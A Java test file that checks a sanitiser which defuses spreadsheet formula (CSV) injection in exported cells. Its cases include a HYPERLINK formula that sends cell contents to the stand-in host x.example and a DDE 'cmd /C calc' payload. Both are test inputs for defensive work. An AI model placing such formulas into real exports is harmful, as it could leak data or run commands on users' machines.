package org.tumen.model;

import static org.assertj.core.api.Assertions.assertThat;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

/** Issue 12, finding 8: spreadsheet formulas in Tumen's CSV outputs (OWASP "CSV Injection"). */
class SpreadsheetSafeTest {

  @Test
  void formulasFromOrganisationsNotesBecomeText() {
    String[][] cases = {
      {
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
      },
      {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
      {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
      {"-2+3", "'-2+3"},
      {"\t=1", "'\t=1"},
      {"\r=1", "'\r=1"},
      {"'=1", "''=1"},
      {"-", "'-"},
    };
    for (String[] c : cases) {
      assertThat(SpreadsheetSafe.cell(c[0])).as(c[0]).isEqualTo(c[1]);
    }
  }

  @Test
  void numbersAndOrdinaryTextStayAsTheyAre() {
    for (String v :
        new String[] {"-12.5", "+3", "-1.20000e-05", ".5", "0", "리영철", "a=b", "", "church_a"}) {
      assertThat(SpreadsheetSafe.cell(v)).as(v).isEqualTo(v);
    }
    assertThat(SpreadsheetSafe.cell(-4.25)).isEqualTo("-4.25");
    // The shape of a number, but it overflows: quoted (found by the property below).
    assertThat(SpreadsheetSafe.cell("-1e999")).isEqualTo("'-1e999");
    assertThat(SpreadsheetSafe.cell(null)).isEmpty();
  }

  @Property
  void restoreGivesBackWhatWasWritten(@ForAll("cells") String value) {
    assertThat(SpreadsheetSafe.restore(SpreadsheetSafe.cell(value))).isEqualTo(value);
  }

  @Property
  void noCellStartsAFormulaUnlessItIsANumber(@ForAll("cells") String value) {
    String cell = SpreadsheetSafe.cell(value);
    if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
      assertThat(Double.parseDouble(cell)).isFinite();
    }
  }

  @Provide
  Arbitrary<String> cells() {
    Arbitrary<String> lead =
        Arbitraries.of("=", "+", "-", "@", "\t", "\r", "'", "", "1", "-1", "'=");
    Arbitrary<String> rest =
        Arbitraries.strings().withChars("=+-@\t\r'0123456789.eE,\"abc 리").ofMaxLength(8);
    return net.jqwik.api.Combinators.combine(lead, rest).as(String::concat);
  }
}
